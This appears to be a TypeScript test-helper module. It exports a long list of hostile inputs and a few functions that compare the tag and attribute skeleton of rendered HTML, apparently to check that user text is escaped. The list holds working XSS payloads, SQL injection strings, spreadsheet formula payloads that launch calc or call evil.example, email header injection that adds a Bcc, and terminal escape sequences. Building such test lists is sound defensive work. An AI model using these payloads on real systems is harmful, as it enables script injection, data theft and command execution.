/** Texts that would do harm where somebody forgot that they are text. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' style='position:fixed",
  '</td></tr></table><h1>From the bank</h1>',
  '</blockquote><a href="https://evil.example">here</a>',
  '</title><style>*{display:none}</style>',
  '<!-- ',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!channel> <@U0123456> <#C0123456>',
  '<https://evil.example|Click here>',
  'x\r\nBcc: victim@example.com',
  'x\nSubject: something else',
  'x\u2028X-Injected: 1',
  'x\u0000\u001b[2J\u0007y',
  '\u202Egpj.exe',
  '=HYPERLINK("https://evil.example","x")',
  '+cmd|calc',
  '$& $1 {reference} {when} {zone}',
  '${business.email} {{7*7}} %0d%0aBcc:x',
  // Elements and attributes that run something.
  '<script src=//evil.example></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script>alert`1`</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<img src="x:x" onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src=1 href=1 onerror="javascript:alert(1)">',
  '<image src=x onerror=alert(1)>',
  '<img srcset=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<applet code=x>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(//evil.example)">',
  '<div style="width:expression(alert(1))">',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<video poster=javascript:alert(1)>',
  '<audio src onloadstart=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  // Ways out of where a text stands.
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '"/><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--></script><script>alert(1)</script>',
  '`-alert(1)-`',
  "';alert(1)//",
  '\\";alert(1)//',
  '{{constructor.constructor("alert(1)")()}}',
  '#{7*7}<%= 7*7 %>',
  '__proto__',
  'constructor.prototype',
  // What unpacking may turn into one of the above.
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253E',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u00ABscript\u00BB\u02B9onerror\u02BA',
  // Tables, databases, mails and terminals.
  "'; drop table leads; --",
  "' or '1'='1",
  '" or 1=1 --',
  '%\u005F\\%',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("https://evil.example","//a")',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u001b[31mred\u001b[0m',
  '\u009b2J',
  '\b\b\b\b',
  'a\u202Eb\u2066c\u2069',
  '\uFEFF\u200B\u200D',
  'x\r\n.\r\nQUIT',
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  '=?utf-8?q?=0d=0aBcc:_x?=',
  'x'.repeat(150) + '<script>',
  '\ud83d',
];

/** A text without half characters, which neither an address nor a database has room for. */
export function wellFormed(text: string): string {
  return text.replace(/[\uD800-\uDFFF]/g, '');
}

/** The tags of an HTML document, by their names. */
export function tagsOf(document: string): string[] {
  return [...document.matchAll(/<[/!]?[a-z-]*/gi)].map(([tag]) => tag);
}

/** What says that a field has a problem: another text may have another one, or none. */
const OF_PROBLEMS = new Set(['hidden', 'aria-invalid']);

/** The elements of an HTML document with the names of their attributes: what a text that is only shown cannot change. */
export function skeletonOf(document: string): string[] {
  const tags = document.matchAll(/<(\/?[a-z][\w-]*)((?:\s+[^\s=<>"'/]+(?:="[^"]*")?)*)\s*\/?>/gi);
  return [...tags].map(([, name, attributes = '']) => {
    const names = [...attributes.matchAll(/\s([^\s=<>"'/]+)(?:="[^"]*")?/g)].map(([, attribute = '']) => attribute);
    return [name, ...names.filter((attribute) => !OF_PROBLEMS.has(attribute))].join(' ');
  });
}
